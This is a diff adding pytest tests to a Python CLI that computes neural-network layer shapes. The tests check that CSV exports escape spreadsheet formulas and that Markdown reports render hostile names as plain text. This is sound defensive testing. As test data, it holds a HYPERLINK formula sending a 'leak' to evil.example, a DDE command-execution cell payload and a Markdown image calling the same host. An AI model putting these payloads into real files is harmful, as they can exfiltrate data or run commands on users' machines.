@@ -113,3 +113,112 @@ def test_the_html_policy_lists_exactly_the_pages_scripts_and_style_by_hash(kind)
     assert set(policy["style-src"].split()) == hashes(re.findall(r"<style>(.*?)</style>", html, re.S))
     assert policy["default-src"] == "'none'" and "unsafe" not in html.split("</head>")[0]
     assert " style=" not in html  # a style attribute would need 'unsafe-inline'
+
+
+# --------------------------------------------------------------------------------------------
+# CSV: no cell a spreadsheet evaluates (issue 21 #27)
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak","open me")'
+
+
+@pytest.mark.parametrize("cell, written", [
+    (FORMULA, "'" + FORMULA), ("@SUM(A1)", "'@SUM(A1)"), ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+    ("-2+3", "'-2+3"), ("\tx", "'\tx"), ("\rx", "'\rx"), ("-2x-2", "'-2x-2"),  # text that starts like a formula
+    ("-3", "-3"), ("-0.25", "-0.25"), ("+7", "+7"), ("-1e-05", "-1e-05"),  # the text of a number stays a number
+    (-3, -3), (-0.5, -0.5), ("a=b", "a=b"), ("", ""), ("resnet50", "resnet50"),
+])
+def test_spreadsheet_cells(cell, written):
+    from convcalc.printable import spreadsheet_cell
+
+    assert spreadsheet_cell(cell) == written
+
+
+def test_every_csv_is_written_through_the_one_helper():
+    """Every CSV writer in convcalc goes through printable.csv_writer: no csv.writer of its own."""
+    import pathlib
+
+    import convcalc
+
+    root = pathlib.Path(convcalc.__file__).parent
+    users = sorted(str(p.relative_to(root)) for p in root.rglob("*.py") if "csv.writer(" in p.read_text(encoding="utf-8"))
+    assert users == ["printable.py"]
+
+
+def _cli(*args: str) -> str:
+    from click.testing import CliRunner
+
+    from convcalc.cli import cli
+
+    result = CliRunner().invoke(cli, list(args), catch_exceptions=False)
+    assert result.exit_code == 0, result.output
+    return result.stdout
+
+
+def _hostile_spec(tmp_path, name: str, file: str = "net.yaml", out: int = 4):  # type: ignore[no-untyped-def]
+    import json
+
+    path = tmp_path / file
+    path.write_text(f"name: {json.dumps(name)}\ninput: [3, 8, 8]\nlayers:\n  - conv: {{out: {out}, k: 3}}\n"
+                    "  - relu\n  - flatten\n  - linear: {out: 2}\n", encoding="utf-8")
+    return str(path)
+
+
+def _csv_commands(tmp_path, name):  # type: ignore[no-untyped-def]
+    a = _hostile_spec(tmp_path, name)
+    b = _hostile_spec(tmp_path, name + "2", "other.yaml", out=2)  # fewer channels: negative differences
+    return {"shapes": ["shapes", a], "memory": ["memory", a], "sweep": ["sweep", a, "--batch", "1,2"],
+            "compare": ["compare", a, b]}
+
+
+@pytest.mark.parametrize("command", ["shapes", "memory", "sweep", "compare"])
+def test_no_csv_cell_is_a_formula(command, tmp_path, plain_terminal):
+    import csv
+    import io
+
+    from convcalc.printable import spreadsheet_cell
+
+    rows = list(csv.reader(io.StringIO(_cli(*_csv_commands(tmp_path, FORMULA)[command], "--format", "csv"))))
+    cells = [cell for row in rows for cell in row]
+    assert "'" + FORMULA in cells  # the name, as text
+    assert all(spreadsheet_cell(cell) == cell for cell in cells)  # no cell left that a spreadsheet would run
+    if command == "compare":  # numbers stay numbers, negative ones included: b has half the conv's params
+        assert str(-(4 * 3 * 9 + 4 - (2 * 3 * 9 + 2))) in cells  # conv params 112 -> 56
+
+
+# --------------------------------------------------------------------------------------------
+# Markdown: a name renders as itself (issue 21 #28)
+
+MD_NAME = '![x](https://evil.example/p.png) <img src=x> [link](http://a.example) <details>*em* _u_ a|b www.e.com'
+
+
+def _rendered(markdown_text: str) -> str:
+    """GitHub-flavoured Markdown as HTML, by markdown-it (rich's dependency): tables and
+    strike-through on, raw HTML passed through as GitHub would (then sanitised, but still shown)."""
+    from markdown_it import MarkdownIt
+
+    return MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).render(markdown_text)
+
+
+@pytest.mark.parametrize("text", [MD_NAME, "a\nb", "&lt;script&gt;", "`code` \\*", "~~gone~~", "x_y_z", "_lead"])
+def test_markdown_text_renders_as_itself(text):
+    import html
+
+    from convcalc.printable import clean, markdown
+
+    rendered = _rendered(markdown(text))
+    assert rendered == f"<p>{html.escape(clean(text), quote=False)}</p>\n"  # one paragraph of exactly the text
+
+
+@pytest.mark.parametrize("command", ["shapes", "compare", "sweep", "memory", "explain"])
+def test_markdown_reports_show_hostile_names_as_text(command, tmp_path, plain_terminal):
+    commands = _csv_commands(tmp_path, MD_NAME)
+    commands["explain"] = ["explain", commands["shapes"][1]]
+    out = _cli(*commands[command], "--format", "markdown")
+    named = [line for line in out.splitlines() if "img src" in line]  # every line the name is on
+    assert named
+    for line in named:  # rendered alone: the report's own markup (LaTeX, bold totals) is elsewhere
+        rendered = _rendered(line)
+        for tag in ("<img", "<a ", "<details", "<em>", "<s>"):
+            assert tag not in rendered
+        assert "&lt;img src=x&gt;" in rendered  # the name is there, as text
+        assert "a\\|b" in line  # the pipe inside the name splits no table row
